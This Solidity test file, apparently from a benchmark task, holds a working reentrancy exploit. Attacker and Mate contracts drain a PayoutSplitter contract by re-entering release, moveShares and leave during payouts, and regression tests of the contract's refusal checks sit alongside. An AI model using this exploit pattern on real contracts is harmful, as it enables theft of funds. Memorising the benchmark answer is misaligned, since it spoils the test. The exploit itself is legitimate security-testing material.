// SPDX-License-Identifier: MIT
pragma solidity 0.4.26;

import "./PayoutSplitter.sol";

// assay-canary-417bf416-136a-4908-9841-ad72703893af

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert() external;
}

contract Attacker {
    PayoutSplitter internal splitter;
    Mate internal mate;
    uint internal mode;
    uint internal depth;

    constructor(PayoutSplitter _splitter) public payable {
        splitter = _splitter;
        splitter.join.value(msg.value)();
    }

    function() public payable {
        if (depth >= 6) return;
        depth++;
        if (mode == 1) _try(abi.encodeWithSignature("release(address)", this), 0);
        if (mode == 2) {
            _try(abi.encodeWithSignature("moveShares(address)", mate), 0);
            mate.go();
        }
        if (mode == 3) _try(abi.encodeWithSignature("leave()"), 0);
    }

    function _try(bytes _data, uint _value) internal returns (bool ok) {
        ok = address(splitter).call.value(_value)(_data);
    }

    function run() external {
        mate = new Mate(splitter);
        // again while the ether arrives
        mode = 1;
        _try(abi.encodeWithSignature("release(address)", this), 0);
        depth = 0;
        _try(abi.encodeWithSignature("release(address)", this), 0);
        // earnings of one's own, paid back in
        _try(abi.encodeWithSignature("other()"), 0.5 ether);
        _try(abi.encodeWithSignature("release(address)", splitter), 0);
        // a second account takes the shares during and after the payment
        mode = 2;
        depth = 0;
        _try(abi.encodeWithSignature("release(address)", this), 0);
        mate.go();
        _try(abi.encodeWithSignature("moveShares(address)", mate), 0);
        mate.go();
        _try(abi.encodeWithSignature("moveShares(address)", this), 0);
        _try(abi.encodeWithSignature("release(address)", this), 0);
        // the contributions
        mode = 3;
        depth = 0;
        _try(abi.encodeWithSignature("leave()"), 0);
        _try(abi.encodeWithSignature("join()"), 0.1 ether);
        _try(abi.encodeWithSignature("leave()"), 0);
        _try(abi.encodeWithSignature("collect()"), 0);
        _try(abi.encodeWithSignature("moveShares(address)", 0), 0);
    }
}

contract Mate {
    PayoutSplitter internal splitter;
    address internal boss;

    constructor(PayoutSplitter _splitter) public {
        splitter = _splitter;
        boss = msg.sender;
    }

    function() public payable {}

    function go() external {
        bool ok = address(splitter).call(abi.encodeWithSignature("release(address)", boss));
        ok = address(splitter).call(abi.encodeWithSignature("leave()"));
        ok = address(splitter).call(abi.encodeWithSignature("moveShares(address)", boss));
    }
}

/// Takes no ether.
contract Stone {
    function leave(PayoutSplitter _splitter) external payable {
        _splitter.join.value(msg.value)();
        _splitter.leave();
    }

    function join(PayoutSplitter _splitter) external payable {
        _splitter.join.value(msg.value)();
    }
}

contract Proof {
    Vm constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    PayoutSplitter internal splitter;
    Attacker internal partner;
    address constant ANA = address(0xA11A);
    address constant BEN = address(0xBE17);
    address constant CLEO = address(0xC1E0);

    function() public payable {}

    function setUp() public {
        vm.deal(address(this), 100 ether);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        splitter = new PayoutSplitter(10 ether);
        partner = (new Attacker).value(1 ether)(splitter);
        vm.prank(ANA);
        splitter.join.value(5 ether)();
        vm.prank(BEN);
        splitter.join.value(4 ether)();
        splitter.collect();
        require(address(splitter).call.value(20 ether)());
    }

    function test_Regular() public {
        require(splitter.pending(ANA) == 10 ether && splitter.pending(BEN) == 8 ether);
        vm.prank(ANA);
        splitter.release(CLEO);
        require(CLEO.balance == 10 ether && splitter.pending(ANA) == 0);
        vm.prank(ANA);
        splitter.moveShares(BEN);
        require(splitter.pending(BEN) == 8 ether && splitter.shares(BEN) == 9 ether);
        vm.prank(BEN);
        splitter.release(BEN);
        require(BEN.balance == 24 ether);
        require(address(splitter).call.value(10 ether)());
        require(splitter.pending(BEN) == 9 ether && splitter.totalReceived() == 30 ether);

        PayoutSplitter next = new PayoutSplitter(3 ether);
        vm.prank(ANA);
        next.join.value(2 ether)();
        vm.prank(ANA);
        next.leave();
        require(ANA.balance == 15 ether && next.totalShares() == 0);
        next.join.value(3 ether)();
        next.collect();
        require(next.collected() && address(next).balance == 0);
    }

    // What is refused, each from the state after setUp().

    function fresh() internal returns (PayoutSplitter next) {
        next = new PayoutSplitter(3 ether);
    }

    function test_RefusesGoals() public {
        vm.expectRevert();
        new PayoutSplitter(0);
    }

    function test_RefusesHugeGoals() public {
        vm.expectRevert();
        new PayoutSplitter(1000000 ether + 1);
    }

    function test_RefusesEarlyEarnings() public {
        PayoutSplitter next = fresh();
        vm.expectRevert();
        address(next).call.value(1 ether)();
    }

    function test_RefusesEmptyJoin() public {
        vm.expectRevert();
        splitter.join();
    }

    function test_RefusesTooMuch() public {
        PayoutSplitter next = fresh();
        vm.expectRevert();
        next.join.value(3 ether + 1)();
    }

    function test_RefusesLeavingLate() public {
        vm.prank(BEN);
        vm.expectRevert();
        splitter.leave();
    }

    function test_RefusesLeavingWithNothing() public {
        PayoutSplitter next = fresh();
        vm.prank(BEN);
        vm.expectRevert();
        next.leave();
    }

    function test_RefusesLeavingUnpaid() public {
        PayoutSplitter next = fresh();
        Stone stone = new Stone();
        vm.expectRevert();
        stone.leave.value(1 ether)(next);
    }

    function test_RefusesNobody() public {
        vm.prank(BEN);
        vm.expectRevert();
        splitter.release(address(0));
    }

    function test_RefusesNothing() public {
        vm.prank(CLEO);
        vm.expectRevert();
        splitter.release(CLEO);
    }

    function test_RefusesUnpaidRelease() public {
        Stone stone = new Stone();
        vm.prank(BEN);
        vm.expectRevert();
        splitter.release(address(stone));
    }

    function test_RefusesMovingToNobody() public {
        vm.prank(BEN);
        vm.expectRevert();
        splitter.moveShares(address(0));
    }

    function test_RefusesMovingNothing() public {
        vm.prank(CLEO);
        vm.expectRevert();
        splitter.moveShares(BEN);
    }

    function test_RefusesCollectingEarly() public {
        PayoutSplitter next = fresh();
        vm.deal(address(next), 3 ether);
        vm.expectRevert();
        next.collect();
    }

    function test_RefusesStrangers() public {
        PayoutSplitter next = fresh();
        next.join.value(3 ether)();
        vm.prank(CLEO);
        vm.expectRevert();
        next.collect();
    }

    function test_RefusesCollectingTwice() public {
        vm.expectRevert();
        splitter.collect();
    }

    function exploit() public {
        partner.run();
    }

    function test_Exploit() public {
        uint before = address(partner).balance;
        exploit();
        require(address(partner).balance >= before + 5 ether);
    }

    function target() public view returns (address) {
        return address(splitter);
    }

    function attacker() public view returns (address) {
        return address(partner);
    }
}
